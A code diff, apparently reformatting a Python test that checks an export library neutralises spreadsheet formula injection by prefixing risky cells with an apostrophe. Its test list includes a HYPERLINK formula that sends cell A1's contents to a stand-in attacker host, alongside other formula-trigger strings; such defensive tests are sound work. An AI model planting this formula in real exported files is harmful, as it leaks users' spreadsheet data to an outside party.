@@ -19,8 +19,19 @@ from vbparse.io.export import read_table, write_frames, write_table
 
 # --- row 5: formula injection --------------------------------------------------------------
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klicka")', "+1+2", "-1+2", "@SUM(A1:A9)", "\t=1", "\r=1",
-           "=", "-", "- punkt", "'=already", "''@two"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klicka")',
+    "+1+2",
+    "-1+2",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+    "=",
+    "-",
+    "- punkt",
+    "'=already",
+    "''@two",
+]
 KEPT = ["-3", "-3,5 %", "+46", "−2", "Sjukfrånvaro", "", "öka"]
 
 
@@ -44,11 +55,12 @@ def test_formula_like_text_gets_an_apostrophe_numbers_do_not(tmp_path: Path, fmt
     assert all(not r[outcome].startswith("'") for r in rows[1:])  # numbers are numbers
 
     df = pd.DataFrame({"name": HOSTILE + KEPT, "outcome": [-3.0] * len(HOSTILE + KEPT)}).astype(
-        {"name": "string", "outcome": "Float64"})
+        {"name": "string", "outcome": "Float64"}
+    )
     write_table(df, tmp_path / "t.csv", fmt)
     cells = [r[0] for r in _cells(tmp_path / "t.csv", sep, encoding)[1:]]
     assert cells[: len(HOSTILE)] == ["'" + t for t in HOSTILE]
-    assert cells[len(HOSTILE):] == KEPT
+    assert cells[len(HOSTILE) :] == KEPT
     back = read_table(tmp_path / "t.csv", fmt)
     assert list(back["name"].fillna("")) == HOSTILE + KEPT  # read_table undoes it exactly
     assert list(back["outcome"]) == [-3.0] * len(HOSTILE + KEPT)
